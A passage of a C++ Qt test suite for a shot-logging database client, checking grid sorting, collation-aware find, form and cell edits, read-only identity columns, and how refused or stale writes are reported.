            QWidget *above = b.field<QWidget>(order.at(i - 1).toLatin1().constData());
            QWidget *below = b.field<QWidget>(order.at(i).toLatin1().constData());
            // (The quality's number sits beside its slider, on its row.)
            const int aboveMiddle = above->mapTo(b.info, QPoint(0, above->height() / 2)).y();
            const int belowMiddle = below->mapTo(b.info, QPoint(0, below->height() / 2)).y();
            QVERIFY2(aboveMiddle <= belowMiddle + 4, qPrintable(order.at(i)));
        }
    }

    // columns' lengths and collations, the media tables' check (two), the
    // media facts and the quick tags read apart, the project's count and name, and the weights
    // of the characters the rows hold: switching on sorting and sorting by
    // id must not read the rows again.
    void theGridReadsTheRowsOnce()
    {
        addShot(harbour, "raw/A/1.MTS");
        QVERIFY(settle());
        ClientState::instance()->projectId = harbour;
        auto selectsRun = [this]() {
            QSqlQuery query(other);
            if (!query.exec("SHOW GLOBAL STATUS LIKE 'Com_select'") || !query.next())
                return -1;
            return query.value(1).toInt();
        };
        const int before = selectsRun();
        auto *grid = new GridWidget;
        QTRY_VERIFY(!grid->model->isBusy());
        const int gridReads = selectsRun() - before - 1; // the question itself
        QCOMPARE(grid->model->rowCount(), 1);
        delete grid;
        QVERIFY2(gridReads >= 1 && gridReads <= 9, qPrintable(QString::number(gridReads)));
    }

    void sortsByIdAndTogglesOnHeaderClicks()
    {
        const int first = addShot(harbour, "raw/A/1.MTS", {{"scene", "b"}});
        const int second = addShot(harbour, "raw/A/2.MTS", {{"scene", "c"}});
        const int third = addShot(harbour, "raw/A/3.MTS", {{"scene", "a"}});
        Browser b = open(harbour);
        auto ids = [&b]() {
            QList<int> result;
            for (int row = 0; row < b.model()->rowCount(); ++row)
                result << b.model()->data(b.cell(row, "id")).toInt();
            return result;
        };
        QCOMPARE(ids(), QList<int>({first, second, third}));
        QCOMPARE(b.grid->horizontalHeader()->sortIndicatorSection(), 0);
        QCOMPARE(b.grid->horizontalHeader()->sortIndicatorOrder(), Qt::AscendingOrder);

        QHeaderView *header = b.grid->horizontalHeader();
        const int scene = b.model()->fieldIndex("scene");
        const QPoint sceneHeader(header->sectionViewportPosition(scene) + header->sectionSize(scene) / 2,
                                 header->height() / 2);
        // The shot the user is on stays current, selected, wherever the
        // sort puts it.
        b.grid->setCurrentIndex(b.cell(1, "scene"));
        auto onSecond = [&]() {
            const QModelIndex current = b.grid->currentIndex();
            return current.isValid() && b.model()->data(b.cell(current.row(), "id")).toInt() == second
                && current.column() == scene && b.grid->selectionModel()->isSelected(current);
        };
        QVERIFY(onSecond());
        QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, sceneHeader);
        QVERIFY(settle());
        QList<int> firstClick = ids();
        QVERIFY(onSecond());
        QTest::mouseClick(header->viewport(), Qt::LeftButton, {}, sceneHeader);
        QVERIFY(settle());
        QList<int> secondClick = ids();
        QVERIFY(onSecond());
        // Which order the first click gives depends on the style; the second
        // always reverses it.
        const QList<int> ascending = {third, first, second};
        const QList<int> descending = {second, first, third};
        QVERIFY(firstClick == ascending || firstClick == descending);
        QCOMPARE(secondClick, firstClick == ascending ? descending : ascending);
    }

    // A packed row gives back every value as it was put in, whatever its
    // type and whichever way its text is kept.
    void packedRowsKeepEveryValue_data()
    {
        QTest::addColumn<QVariant>("value");
        QTest::newRow("NULL text") << QVariant(QMetaType::fromType<QString>());
        QTest::newRow("NULL number") << QVariant(QMetaType::fromType<int>());
        QTest::newRow("a number") << QVariant(-42);
        QTest::newRow("a large number") << QVariant(qint64(1) << 40);
        QTest::newRow("a real") << QVariant(2.5);
        QTest::newRow("empty text") << QVariant(QString(""));
        QTest::newRow("text of one byte a character") << QVariant(QStringLiteral("Café Möwe, ÿ"));
        QTest::newRow("text beyond one byte") << QVariant(QStringLiteral("Œuvre \u5317 \U0001F600"));
        QTest::newRow("bytes of a binary column") << QVariant(QByteArray("raw/A/1.MTS"));
    }

    void packedRowsKeepEveryValue()
    {
        QFETCH(QVariant, value);
        ShotRow::Builder builder;
        builder.append(7);
        builder.append(value);
        builder.append(QStringLiteral("after"));
        const ShotRow row = builder.take();
        QCOMPARE(row.count(), 3);
        QCOMPARE(row.value(0).toInt(), 7);
        QCOMPARE(row.value(1).isNull(), value.isNull());
        QCOMPARE(row.value(1).toString(), value.toString());
        QCOMPARE(row.value(2).toString(), QStringLiteral("after"));
        QString text = QStringLiteral("a longer text that is written over");
        QCOMPARE(row.textInto(1, &text), !value.isNull());
        if (!value.isNull())
            QCOMPARE(text, value.toString());
        // A value changed in place keeps the others.
        ShotRow changed = row;
        changed.setValue(1, QStringLiteral("\u00e9t\u00e9 \u5317"));
        QCOMPARE(changed.value(1).toString(), QStringLiteral("\u00e9t\u00e9 \u5317"));
        QCOMPARE(changed.value(2).toString(), QStringLiteral("after"));
        QCOMPARE(row.value(1).toString(), value.toString());
        // The builder starts each row afresh.
        builder.append(1);
        QCOMPARE(builder.take().count(), 1);
    }

    // Texts that tell collations apart: case, accents, an expansion, a
    // trailing space, a tab (which weighs less than a space), characters
    // without weight, NULL and the empty text, digits as text.
    static QStringList trickyTexts()
    {
        return {"b", "B", "á", "a", "A ", "a\t", "a", "ä", "", " ", "ss", QStringLiteral("ß"), "10", "9", "Z",
                QStringLiteral("é"), "e", QStringLiteral("ê"), QStringLiteral("Œuvre"), "oeuvre",
                QStringLiteral("\U0001F600"), QStringLiteral("x\u200By"), "xy", QStringLiteral("Café"), "cafe",
                "pier 1", "Pier 12", "50%", "a_b", "ab"};
    }

    // Shots holding trickyTexts() in their text columns, numbers with NULLs,
    // and media facts for most of them; ids in insertion order.
    QList<int> addTrickyShots()
    {
        QSqlQuery media(other);
        media.exec("DELETE FROM shot_media");
        QList<int> ids;
        const QStringList texts = trickyTexts();
        for (int i = 0; i < texts.size(); ++i) {
            const QString md5 = QStringLiteral("%1").arg(i + 1, 32, 10, QLatin1Char('0'));
            QVariantMap fields{{"scene", i == 3 ? QVariant() : texts.at(i)},
                               {"notes", texts.at((i * 7) % texts.size()) + " " + texts.at(i)},
                               {"quality", i % 4 == 0 ? QVariant() : QVariant((i * 37) % 11)},
                               {"prod", i % 3 == 2 ? QVariant() : QVariant(i % 3)}};
            ids << addShot(harbour, QStringLiteral("raw/%1/%2.MTS").arg(texts.at(i)).arg(i), fields, md5);
            if (i % 5 == 4)
                continue; // not read by a sync
            const QString facts =
                i % 6 == 1 ? QStringLiteral("(MD5, SHA1, problem) VALUES ('%1', '%2', '%3')")
                                 .arg(md5, sha1One, i % 2 ? QStringLiteral("not a video") : QStringLiteral("Unreadable"))
                           : QStringLiteral("(MD5, SHA1, duration_ms, width, height, frame_rate, recorded_at, "
                                            "start_timecode) VALUES ('%1', '%2', %3, %4, 1080, '%5', "
                                            "'2024-03-%6 1%7:05:09', '01:00:%6:00')")
                                 .arg(md5, sha1One)
                                 .arg(1000 * (i % 7))
                                 .arg(i % 2 ? 1920 : 1440)
                                 .arg(i % 3 ? QStringLiteral("30000/1001") : QStringLiteral("25/1"))
                                 .arg(10 + i % 9)
                                 .arg(i % 4);
            if (!media.exec(QStringLiteral("INSERT INTO shot_media ") + facts))
                qWarning() << media.lastError().text();
        }
        return ids;
    }

    int selectsRun()
    {
        QSqlQuery query(other);
        if (!query.exec("SHOW GLOBAL STATUS LIKE 'Com_select'") || !query.next())
            return -1;
        return query.value(1).toInt();
    }

    static bool settleModel(const ShotTableModel &model)
    {
        QElapsedTimer clock;
        clock.start();
        while ((model.isBusy() || DbWorker::shared()->isBusy()) && clock.elapsed() < 20000)
            QTest::qWait(5);
        return !model.isBusy();
    }

    static QList<qlonglong> idsOf(const ShotTableModel &model)
    {
        QList<qlonglong> ids;
        for (int row = 0; row < model.rowCount(); ++row)
            ids << model.shotOfRow(row);
        return ids;
    }

    // The ids the server gives for statement, run on another connection.
    QList<qlonglong> serverIds(const QString &statement, const QVariantList &values = {})
    {
        QSqlQuery query(other);
        query.prepare(statement);
        for (const QVariant &value : values)
            query.addBindValue(value);
        QList<qlonglong> ids;
        if (!query.exec())
            qWarning() << query.lastError().text();
        while (query.next())
            ids << query.value(0).toLongLong();
        return ids;
    }

    // A header click sorts the rows held as the server sorts them, and asks
    // the server nothing.
    void aHeaderClickSortsTheRowsHeldAsTheServerWould_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("serverOrder"); // %1: ASC or DESC
        QTest::newRow("text: case, accents, spaces and a tab") << "scene" << "s.scene %1";
        QTest::newRow("the file name, by its characters") << "filename" << "s.filename %1";
        QTest::newRow("a number, NULL first") << "quality" << "s.quality %1";
        QTest::newRow("the production flag") << "prod" << "s.prod %1";
        QTest::newRow("free text") << "notes" << "s.notes %1";
        QTest::newRow("the recording time") << "recorded" << "m.recorded_at %1";
        QTest::newRow("the format: problem, size, rate")
            << "format" << "m.problem %1, m.width %1, m.height %1, m.frame_rate %1";
    }

    void aHeaderClickSortsTheRowsHeldAsTheServerWould()
    {
        QFETCH(QString, column);
        QFETCH(QString, serverOrder);
        addTrickyShots();
        addShot(elsewhere, "raw/other.MTS");
        ShotTableModel model;
        model.setTable("shots");
        model.setProject(harbour);
        QVERIFY(settleModel(model));
        QVERIFY(model.hasMedia());
        QCOMPARE(model.rowCount(), trickyTexts().size());
        for (const Qt::SortOrder order : {Qt::AscendingOrder, Qt::DescendingOrder, Qt::AscendingOrder}) {
            const int before = selectsRun();
            model.sort(model.fieldIndex(column), order);
            QVERIFY(settleModel(model));
            QCOMPARE(selectsRun() - before, 0); // the client asked the server nothing
            const QString direction = order == Qt::AscendingOrder ? "ASC" : "DESC";
            QCOMPARE(idsOf(model), serverIds(QStringLiteral("SELECT s.id FROM shots s LEFT JOIN shot_media m ON "
                                                            "m.MD5 = s.MD5 AND m.SHA1 = s.SHA1 WHERE s.project = ? "
                                                            "ORDER BY %1, s.id ASC")
                                                 .arg(serverOrder.arg(direction)),
                                             {harbour}));
        }
        // And the server, asked to read the rows in that order, agrees.
        model.select();
        QVERIFY(settleModel(model));
        const QList<qlonglong> local = idsOf(model);
        model.sort(0, Qt::AscendingOrder);
        QVERIFY(settleModel(model));
        model.sort(model.fieldIndex(column), Qt::AscendingOrder);
        QVERIFY(settleModel(model));
        QCOMPARE(idsOf(model), local);
    }

    // One more character (or word) typed into the find narrows the rows
    // held exactly as the server's LIKE would, and asks the server nothing.
    void oneMoreCharacterNarrowsTheRowsHeldAsTheServerWould_data()
    {
        QTest::addColumn<QStringList>("typed");
        QTest::addColumn<bool>("notYetLogged");
        QTest::newRow("a word growing, accents match") << QStringList{"ca", "caf", QStringLiteral("cafÉ")} << false;
        QTest::newRow("a second word") << QStringList{"pier", "pier 1", "pier 12"} << false;
        QTest::newRow("double s") << QStringList{"s", "ss"} << false;
        QTest::newRow("sharp s matches neither s nor ss") << QStringList{QStringLiteral("ß")} << false;
        QTest::newRow("a percent sign is literal") << QStringList{"5", "50%"} << false;
        QTest::newRow("an underscore is literal") << QStringList{"a", "a_"} << false;
        QTest::newRow("a character without weight") << QStringList{"x", "xy"} << false;
        QTest::newRow("the recording date and the picture size")
            << QStringList{"2024", "2024-03-1", "2024-03-1 1920", "2024-03-1 1920x"} << false;
        QTest::newRow("not yet logged, then a word") << QStringList{"", "raw"} << true;
    }

    void oneMoreCharacterNarrowsTheRowsHeldAsTheServerWould()
    {
        QFETCH(QStringList, typed);
        QFETCH(bool, notYetLogged);
        addTrickyShots();
        // Not yet logged: no scene, shot or notes (blank counts as none).
        for (const QString &blank : {QString(), QStringLiteral("  "), QStringLiteral("\u200B")})
            addShot(harbour, QStringLiteral("raw/blank/%1.MTS").arg(blank.size()), {{"scene", blank}});
        ShotTableModel model;
        model.setTable("shots");
        model.setProject(harbour);
        QVERIFY(settleModel(model));
        model.setFind(typed.first(), notYetLogged);
        QVERIFY(settleModel(model));
        for (const QString &text : typed) {
            const int before = selectsRun();
            model.setFind(text, notYetLogged);
            QVERIFY(settleModel(model));
            QCOMPARE(selectsRun() - before, 0); // the client asked the server nothing
            ShotLayout layout;
            layout.columns = model.columnNames();
            layout.shotColumns = int(layout.columns.size() - ShotTableModel::mediaColumnNames().size());
            layout.media = true;
            const ShotReader::Statement statement = ShotReader::rowsStatement(
                "shots", model.query(), layout, [](const QString &name) { return QStringLiteral("`%1`").arg(name); });
            QCOMPARE(idsOf(model), serverIds(statement.text, statement.values));
        }
    }

    void cellEditsReachTheDatabase_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<QString>("typed");
        QTest::addColumn<QVariant>("expected");
        QTest::newRow("text column") << "scene" << "14b" << QVariant("14b");
        QTest::newRow("number column") << "quality" << "42" << QVariant(42);
        QTest::newRow("multi-line column") << "notes" << "rain later" << QVariant("rain later");
    }

    void cellEditsReachTheDatabase()
    {
        QFETCH(QString, column);
        QFETCH(QString, typed);
        QFETCH(QVariant, expected);
        const int id = addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        const QModelIndex index = b.cell(0, qPrintable(column));
        b.grid->setCurrentIndex(index);
        b.grid->edit(index);
        QWidget *editor = b.grid->indexWidget(index);
        QVERIFY(editor);
        QTest::keyClick(editor, Qt::Key_A, Qt::ControlModifier);
        QTest::keyClicks(editor, typed);
        QTest::keyClick(editor, Qt::Key_Return);
        QTRY_VERIFY(!b.grid->indexWidget(index)); // the editor commits when it closes
        QCOMPARE(stored(id, column).toString(), expected.toString());
        QCOMPARE(b.model()->data(index).toString(), expected.toString());
    }

    void updateRequestShowsAnotherClientsChange()
    {
        const int id = addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}});
        Browser b = open(harbour);
        setStored(id, "scene", "7");
        addShot(harbour, "raw/A/2.MTS");
        QCOMPARE(b.model()->data(b.cell(0, "scene")).toString(), QStringLiteral("1"));
        QVERIFY(QMetaObject::invokeMethod(b.grid, "update_request"));
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 2);
        QCOMPARE(b.model()->data(b.cell(0, "scene")).toString(), QStringLiteral("7"));
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("7"));
    }

    void formShowsTheLabelsInOrder()
    {
        addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        auto *layout = b.info->findChild<QFormLayout *>();
        QVERIFY(layout);
        // In the order of the layout for logging, then the fields of the
        // columns it hides.
        const QStringList labels = {"Filename", "Location", "Scene", "Shot", "Takes", "Tags", "Notes",
                                    "Production", "Duration (s)", "Quality", "Related Object ID's",
                                    "Shot Type", "Description ID"};
        const QStringList widgets = {"QLabel", "QTextEdit", "QLineEdit", "QLineEdit", "QLineEdit", "QWidget",
                                     "QTextEdit", "QCheckBox", "QLineEdit", "QSlider", "QLineEdit",
                                     "QTextEdit", "QLineEdit"};
        const QStringList columns = {"filename", "location", "scene", "shot", "takes", "tags", "notes",
                                     "prod", "duration", "quality", "related", "shottype", "descid"};
        QCOMPARE(layout->rowCount(), labels.size());
        for (int row = 0; row < labels.size(); ++row) {
            auto *label = qobject_cast<QLabel *>(layout->itemAt(row, QFormLayout::LabelRole)->widget());
            QWidget *field = layout->itemAt(row, QFormLayout::FieldRole)->widget();
            // The quality's slider shares its row with its number.
            if (columns[row] == "quality") {
                QCOMPARE(field->findChildren<QWidget *>(Qt::FindDirectChildrenOnly).size(), 2);
                QCOMPARE(field->findChild<QSpinBox *>("qualitySpin")->parentWidget(), field);
                field = field->findChild<QSlider *>("qualitySlider");
                QCOMPARE(label->buddy(), field);
            }
            QVERIFY(label);
            QCOMPARE(label->text(), labels[row]);
            QCOMPARE(field->metaObject()->className(), widgets[row].toLatin1().constData());
            if (columns[row] != "tags")
                QCOMPARE(b.info->mapper->mappedSection(field), b.model()->fieldIndex(columns[row]));
        }
        QCOMPARE(b.info->mapper->submitPolicy(), QDataWidgetMapper::ManualSubmit);
        QCOMPARE(b.field<QSlider>("qualitySlider")->orientation(), Qt::Horizontal);
        QCOMPARE(b.field<QSlider>("qualitySlider")->maximum(), 99);
        QVERIFY(!b.field<QTextEdit>("locationEdit")->acceptRichText());
        QVERIFY(!b.field<QTextEdit>("notesEdit")->acceptDrops());
    }

    void formShowsTheClickedRow()
    {
        addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}, {"location", "East pier"}, {"prod", 1},
                                         {"quality", 150}, {"takes", "3"}});
        addShot(harbour, "raw/A/2.MTS", {{"scene", "2"}, {"quality", 40}, {"notes", "gulls"}});
        Browser b = open(harbour);
        QCOMPARE(b.field<QLabel>("filenameLabel")->text(), QStringLiteral("raw/A/1.MTS"));
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), QStringLiteral("East pier"));
        QVERIFY(b.field<QCheckBox>("prodBox")->isChecked());
        // A quality above the slider's range shows at its right end.
        QCOMPARE(b.field<QSlider>("qualitySlider")->value(), 99);

        b.click(1, "takes");
        QVERIFY(settle());
        QCOMPARE(b.info->mapper->currentIndex(), 1);
        QCOMPARE(b.field<QLabel>("filenameLabel")->text(), QStringLiteral("raw/A/2.MTS"));
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("2"));
        QCOMPARE(b.field<QTextEdit>("locationEdit")->toPlainText(), QString());
        QCOMPARE(b.field<QLineEdit>("takesEdit")->text(), QString());
        QCOMPARE(b.field<QSlider>("qualitySlider")->value(), 40);
        QCOMPARE(b.field<QTextEdit>("notesEdit")->toPlainText(), QStringLiteral("gulls"));

        // Moving with the keys shows the row too.
        QTest::keyClick(b.grid, Qt::Key_Up);
        QVERIFY(settle());
        QCOMPARE(b.info->mapper->currentIndex(), 0);
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("1"));
    }

    // Regression: the form's edits were submitted after the mapper had moved
    // to the clicked row (writing that row's own values) and each field's
    // change re-read the table, dropping the rest.
    void formEditsAreSavedToTheirRowWhenMovingOn_data()
    {
        QTest::addColumn<bool>("byKeyboard");
        QTest::newRow("click on another row") << false;
        QTest::newRow("arrow key to another row") << true;
    }

    void formEditsAreSavedToTheirRowWhenMovingOn()
    {
        QFETCH(bool, byKeyboard);
        const int first = addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}, {"takes", "3"}});
        const int second = addShot(harbour, "raw/A/2.MTS", {{"scene", "2"}});
        Browser b = open(harbour);
        b.grid->setCurrentIndex(b.cell(0, "scene"));

        typeInto(b.field<QLineEdit>("sceneEdit"), "4");
        typeInto(b.field<QLineEdit>("shotEdit"), "C");
        typeInto(b.field<QTextEdit>("locationEdit"), "North quay");
        QTest::keyClick(b.field<QCheckBox>("prodBox"), Qt::Key_Space);
        QTest::keyClick(b.field<QSlider>("qualitySlider"), Qt::Key_End);
        QCOMPARE(stored(first, "scene").toString(), QStringLiteral("1")); // not yet

        if (byKeyboard)
            QTest::keyClick(b.grid, Qt::Key_Down);
        else
            b.click(1, "takes");

        QCOMPARE(b.info->mapper->currentIndex(), 1);
        QCOMPARE(stored(first, "scene").toString(), QStringLiteral("14"));
        QCOMPARE(stored(first, "shot").toString(), QStringLiteral("C"));
        QVERIFY(stored(first, "location").toString().contains("North quay"));
        QCOMPARE(stored(first, "prod").toInt(), 1);
        QCOMPARE(stored(first, "quality").toInt(), 99);
        QCOMPARE(stored(first, "takes").toString(), QStringLiteral("3"));
        // All of it as one save (one change set in the history), and
        // nothing written to the row moved to.
        const QStringList history = historyOf(first);
        QCOMPARE(history.size(), 5);
        for (const QString &change : history)
            QCOMPARE(change.section(':', 1), history.first().section(':', 1));
        QCOMPARE(historyOf(second), QStringList());
        QCOMPARE(stored(second, "scene").toString(), QStringLiteral("2"));
        QVERIFY(stored(second, "shot").isNull());
        QCOMPARE(b.field<QLineEdit>("sceneEdit")->text(), QStringLiteral("2"));
        QCOMPARE(b.model()->data(b.cell(0, "scene")).toString(), QStringLiteral("14"));
    }

    void formEditsAreSavedWhenTheFocusLeavesTheForm()
    {
        const int id = addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        auto *scene = b.field<QLineEdit>("sceneEdit");
        scene->setFocus();
        QTRY_VERIFY(scene->hasFocus());
        typeInto(scene, "9");
        QVERIFY(b.info->hasUnsavedChanges());
        b.grid->setFocus();
        QTRY_COMPARE(stored(id, "scene").toString(), QStringLiteral("9"));
        QVERIFY(!b.info->hasUnsavedChanges());
        QCOMPARE(b.info->mapper->currentIndex(), 0);
    }

    // Regression: the mapper wrote every widget back, so merely looking at
    // a row rewrote it.
    void rowsTheUserDidNotEditAreNeverWritten()
    {
        const int first = addShot(harbour, "raw/A/1.MTS", {{"location", "East pier"}, {"prod", 1},
                                                            {"quality", 150}});
        const int second = addShot(harbour, "raw/A/2.MTS");
        Browser b = open(harbour);
        setStored(first, "takes", "5"); // another client, after the form loaded
        const int updatesBefore = updatesRun();

        b.click(1, "scene");
        // NULL shows as neither yes nor no
        QCOMPARE(b.field<QCheckBox>("prodBox")->checkState(), Qt::PartiallyChecked);
        b.click(0, "scene");
        b.click(1, "scene");
        b.info->saveChanges();

        QCOMPARE(updatesRun() - updatesBefore, 0);
        QCOMPARE(historyOf(first), QStringList());
        QCOMPARE(stored(first, "location").toString(), QStringLiteral("East pier"));
        QCOMPARE(stored(first, "quality").toInt(), 150);
        QCOMPARE(stored(first, "takes").toString(), QStringLiteral("5"));
        for (const char *column : {"location", "scene", "shot", "prod", "duration", "quality",
                                   "takes", "related", "shottype", "descid", "notes"})
            QVERIFY2(stored(second, column).isNull(), column);
    }

    void onlyTheChangedFieldsAreWritten()
    {
        const int id = addShot(harbour, "raw/A/1.MTS", {{"location", "East pier"}, {"quality", 150},
                                                         {"takes", "3"}});
        Browser b = open(harbour);
        setStored(id, "takes", "4"); // saved meanwhile by another client
        typeInto(b.field<QLineEdit>("sceneEdit"), "8");
        // An edit undone is no edit.
        auto *notes = b.field<QTextEdit>("notesEdit");
        typeInto(notes, "x");
        notes->undo();
        QVERIFY(b.info->saveChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("8"));
        QCOMPARE(stored(id, "takes").toString(), QStringLiteral("4"));
        QCOMPARE(stored(id, "location").toString(), QStringLiteral("East pier"));
        QCOMPARE(stored(id, "quality").toInt(), 150);
        QVERIFY(stored(id, "notes").isNull());
        QVERIFY(stored(id, "prod").isNull());
        // The form and the grid show what was stored, including the other
        // client's value read with the row when it was saved.
        QVERIFY(settle());
        QCOMPARE(b.model()->data(b.cell(0, "takes")).toString(), QStringLiteral("4"));
        QCOMPARE(b.field<QLineEdit>("takesEdit")->text(), QStringLiteral("4"));
    }

    void gridEditOfANullCellLeftAloneKeepsNull()
    {
        const int id = addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        for (const char *column : {"scene", "quality"}) {
            const QModelIndex index = b.cell(0, column);
            b.grid->setCurrentIndex(index);
            b.grid->edit(index);
            QWidget *editor = b.grid->indexWidget(index);
            QVERIFY2(editor, column);
            QTest::keyClick(editor, Qt::Key_Return);
            QTRY_VERIFY(!b.grid->indexWidget(index));
            QVERIFY2(stored(id, column).isNull(), column);
        }
    }

    // Regression: every column was editable, so a stray key press could
    // rewrite a clip's identity and the next sync would duplicate the shot.
    void clipIdentityIsReadOnlyInTheGrid_data()
    {
        QTest::addColumn<QString>("column");
        QTest::addColumn<bool>("editable");
        QTest::newRow("id") << "id" << false;
        QTest::newRow("MD5") << "MD5" << false;
        QTest::newRow("SHA1") << "SHA1" << false;
        QTest::newRow("filename") << "filename" << false;
        QTest::newRow("scene stays editable") << "scene" << true;
        QTest::newRow("notes stays editable") << "notes" << true;
    }

    void clipIdentityIsReadOnlyInTheGrid()
    {
        QFETCH(QString, column);
        QFETCH(bool, editable);
        const int id = addShot(harbour, "raw/A/1.MTS");
        const QVariant before = stored(id, column);
        Browser b = open(harbour);
        const QModelIndex index = b.cell(0, qPrintable(column));
        QCOMPARE(bool(b.model()->flags(index) & Qt::ItemIsEditable), editable);
        b.grid->setFocus();
        b.grid->setCurrentIndex(index);
        QTest::keyClick(b.grid, Qt::Key_X);
        QCOMPARE(b.grid->indexWidget(index) != nullptr, editable);
        if (!editable) {
            QVERIFY(!b.model()->setData(index, "changed"));
            QCOMPARE(stored(id, column), before);
        }
    }

    void doubleClickOnACellStillStartsEditing()
    {
        addShot(harbour, "raw/A/1.MTS");
        Browser b = open(harbour);
        const QModelIndex index = b.cell(0, "scene");
        const QPoint centre = b.grid->visualRect(index).center();
        QTest::mouseClick(b.grid->viewport(), Qt::LeftButton, {}, centre);
        QTest::mouseDClick(b.grid->viewport(), Qt::LeftButton, {}, centre);
        QVERIFY(b.grid->indexWidget(index));
        QVERIFY(catcher.urls.isEmpty());
    }

    // Regression: a refused write was ignored and the grid looked saved;
    // later, the typed text was thrown away with the refusal.
    void refusedWritesAreReportedAndKeepTheTypedText_data()
    {
        QTest::addColumn<bool>("throughForm");
        QTest::newRow("cell") << false;
        QTest::newRow("form") << true;
    }

    void refusedWritesAreReportedAndKeepTheTypedText()
    {
        QFETCH(bool, throughForm);
        const int id = addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}});
        Browser b = open(harbour);
        // The server holds less than the editors were told: its refusal
        // still names the field, says why, and keeps what was typed.
        narrowColumn("scene", 5);
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        const QString tooLong = QStringLiteral("123456");
        auto *scene = b.field<QLineEdit>("sceneEdit");
        if (throughForm) {
            scene->clear();
            typeInto(scene, tooLong);
            QVERIFY(b.info->saveChanges());
        } else {
            QVERIFY(b.model()->setData(b.cell(0, "scene"), tooLong));
        }
        QVERIFY(settle());
        QCOMPARE(failures.size(), 1);
        const QString message = failures.first().first().toString();
        QVERIFY2(message.contains(QStringLiteral("Shot %1").arg(id)) && message.contains("Scene")
                     && message.contains("longer than Scene can hold"),
                 qPrintable(message));
        QVERIFY2(message.contains("too long", Qt::CaseInsensitive), qPrintable(message)); // the server's text
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("1"));
        // The draft stays with its shot, in the grid and the form (also a
        // cell's), marked as not saved, until it is saved or dropped.
        const QModelIndex cell = b.cell(0, "scene");
        QCOMPARE(b.model()->data(cell).toString(), tooLong);
        QCOMPARE(b.model()->data(cell, ShotTableModel::StoredRole).toString(), QStringLiteral("1"));
        QCOMPARE(b.model()->data(cell, ShotTableModel::DraftStateRole).toInt(), int(ShotEdits::State::Unsaved));
        QCOMPARE(scene->text(), tooLong);
        QVERIFY(scene->property("unsaved").toBool());
        QVERIFY(b.info->hasUnsavedChanges());
        QCOMPARE(b.info->unsavedFields(), QStringList{"Scene"});
        QVERIFY(b.info->unsavedBar()->isVisible());
        QVERIFY(b.info->unsavedBar()->text().contains("too long", Qt::CaseInsensitive));
        if (throughForm)
            QVERIFY(QFileInfo::exists(saveScreenshot(b.window, "unsaved")));

        // Moving to another shot and back, or reading the rows again, keeps
        // it: the draft belongs to the shot.
        addShot(harbour, "raw/A/2.MTS");
        b.grid->update_request();
        QVERIFY(settle());
        QCOMPARE(b.model()->rowCount(), 2);
        QCOMPARE(scene->text(), tooLong);
        b.grid->setCurrentIndex(b.cell(1, "scene"));
        QVERIFY(settle());
        QCOMPARE(b.info->mapper->currentIndex(), 1);
        QCOMPARE(scene->text(), QString());
        QVERIFY(b.info->unsavedBar()->isVisible());
        QVERIFY2(b.info->unsavedBar()->text().contains(QStringLiteral("Scene (shot %1)").arg(id)),
                 qPrintable(b.info->unsavedBar()->text()));
        b.grid->setCurrentIndex(b.cell(0, "scene"));
        QVERIFY(settle());
        QCOMPARE(scene->text(), tooLong);
        QVERIFY(scene->property("unsaved").toBool());

        // Corrected and tried again, it is saved and the mark goes.
        scene->setText(QStringLiteral("1b"));
        emit scene->textEdited(scene->text());
        b.info->unsavedBar()->firstButton()->click();
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("1b"));
        QVERIFY(!scene->property("unsaved").toBool());
        QVERIFY(!b.info->hasUnsavedChanges());
        QVERIFY(!b.info->unsavedBar()->isVisible());

        // A refused cell edit, then one that goes through: the latter wins.
        QVERIFY(b.model()->setData(b.cell(0, "scene"), tooLong));
        QVERIFY(settle());
        QCOMPARE(scene->text(), tooLong);
        QVERIFY(b.model()->setData(b.cell(0, "scene"), "2"));
        QVERIFY(settle());
        QCOMPARE(scene->text(), QStringLiteral("2"));
        QVERIFY(!b.info->hasUnsavedChanges());

        // Discard puts the stored value back.
        typeInto(scene, "x");
        scene->setText(tooLong);
        emit scene->textEdited(scene->text());
        QVERIFY(b.info->saveChanges());
        QVERIFY(settle());
        QVERIFY(b.info->unsavedBar()->isVisible());
        b.info->unsavedBar()->secondButton()->click();
        QCOMPARE(scene->text(), QStringLiteral("2"));
        QVERIFY(!b.info->hasUnsavedChanges());
        QCOMPARE(stored(id, "scene").toString(), QStringLiteral("2"));
    }

    void editOfAShotDeletedMeanwhileIsReported()
    {
        const int id = addShot(harbour, "raw/A/1.MTS", {{"scene", "1"}});
        addShot(harbour, "raw/A/2.MTS");
        Browser b = open(harbour);
        QSqlQuery remove(other);
        QVERIFY(remove.exec(QStringLiteral("DELETE FROM shots WHERE id = %1").arg(id)));
        QSignalSpy failures(b.model(), &ShotTableModel::saveFailed);
        QVERIFY(b.model()->setData(b.cell(0, "scene"), "2"));
        QVERIFY(settle());
        QCOMPARE(failures.size(), 1);
        QVERIFY(failures.first().first().toString().contains("no longer in the database"));
        // A second try says the same, not a driver message.
        typeInto(b.field<QLineEdit>("takesEdit"), "4");
        QVERIFY(b.info->saveChanges());
        QVERIFY(settle());
        QCOMPARE(failures.size(), 2);
        QVERIFY(failures.last().first().toString().contains("no longer in the database"));
    }

    // Regression: after the connection was lost every edit failed until the
    // client was restarted.
    void aLostConnectionIsReopenedAndTheEditSaved_data()
    {
        QTest::addColumn<bool>("throughForm");
        QTest::newRow("cell") << false;
        QTest::newRow("form") << true;
    }

    void aLostConnectionIsReopenedAndTheEditSaved()
